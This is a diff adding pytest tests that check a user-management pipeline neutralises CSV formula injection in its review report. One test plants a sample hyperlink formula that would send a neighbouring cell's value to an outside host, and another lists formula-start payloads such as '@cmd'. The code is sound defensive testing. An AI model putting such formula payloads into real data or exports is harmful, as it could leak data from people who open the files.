@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import html
 import json
 import os
 import re
@@ -9,11 +11,13 @@ import stat
 from pathlib import Path
 
 import pytest
+from bson import ObjectId
 from dagster import DagsterInstance
 from pymongo import MongoClient
 
 from usermgmt_pipeline.config import load_config
 from usermgmt_pipeline.orchestration.build import USER_MANAGEMENT_JOB, build_definitions, run_config
+from usermgmt_pipeline.review.bundle import open_bundle
 from usermgmt_pipeline.review.collect import PLACEHOLDER_TOKEN
 from usermgmt_pipeline_tests.orchestration.helpers import config_document, seed, write_config
 from usermgmt_pipeline_tests.test_cli import run_cli
@@ -260,3 +264,54 @@ def test_links_planted_in_our_own_bundle_are_replaced_never_written_through(
     assert not [p for p in report.iterdir() if p.name.endswith(".tmp")]
     assert (report / "users.csv").read_text().startswith("instance_id,task,user_id")
     assert _modes(report) == ({0o700}, {0o600})
+
+
+# ------------------------------------------------------------------ CSV injection
+
+
+def test_csv_cells_that_start_like_a_formula_are_neutralised_in_the_csv_only(
+    tmp_path: Path, mongo_uri: str, db_prefix: str, mongo_client: MongoClient
+) -> None:
+    """CASE accepts `=1+2@x.org` as an address, and a language is free text: a spreadsheet would run both."""
+    _seed_alpha(mongo_client, db_prefix)
+    config = write_config(tmp_path / "config.yaml", config_document(mongo_uri, db_prefix, ["alpha"]))
+    first = run_cli(["--dry-run", "--report", str(tmp_path / "first")], config, tmp_path)
+    assert first.returncode == 0, first.stdout + first.stderr
+    listed = json.loads((tmp_path / "first" / "users.jsonl").read_text().splitlines()[0])
+    address, language = "=1+2@x.org", '=HYPERLINK("https://x?d="&D2,"details")'
+    mongo_client[f"{db_prefix}alpha_users"]["users"].update_one(
+        {"_id": ObjectId(listed["user_id"])},
+        {"$set": {"account.accountID": address, "account.preferredLanguage": language}},
+    )
+
+    report = tmp_path / "review"
+    done = run_cli(["--dry-run", "--report", str(report)], config, tmp_path)
+
+    assert done.returncode == 0, done.stdout + done.stderr
+    with (report / "users.csv").open(newline="") as handle:
+        [row] = [r for r in csv.DictReader(handle) if r["user_id"] == listed["user_id"]]
+    assert (row["account_id"], row["language"]) == ("'" + address, "'" + language)
+    [raw] = [
+        json.loads(line)
+        for line in (report / "users.jsonl").read_text().splitlines()
+        if json.loads(line)["user_id"] == listed["user_id"]
+    ]
+    assert (raw["account_id"], raw["language"]) == (address, language)
+    page = (report / "index.html").read_text()
+    assert html.escape(address) in page and html.escape(language) in page
+    assert html.escape("'" + address) not in page
+
+
+def test_every_formula_start_owasp_names_is_prefixed_and_other_cells_are_kept(tmp_path: Path) -> None:
+    bundle = open_bundle(tmp_path / "review")
+    starts = ["=SUM(A1)", "+1", "-1+1", "@cmd", "\tx", "\rx"]
+    kept = ["alice@example.org", "en", "", "2024-01-01T00:00:00Z", "a=b"]
+    bundle.write_rows(
+        "alpha",
+        "clean_up_unverified_users",
+        [{"user_id": str(i), "account_id": value, "language": "en"} for i, value in enumerate(starts + kept)],
+    )
+    bundle.rebuild()
+    with (tmp_path / "review" / "users.csv").open(newline="") as handle:
+        cells = [r["account_id"] for r in csv.DictReader(handle)]
+    assert cells == ["'" + value for value in starts] + kept
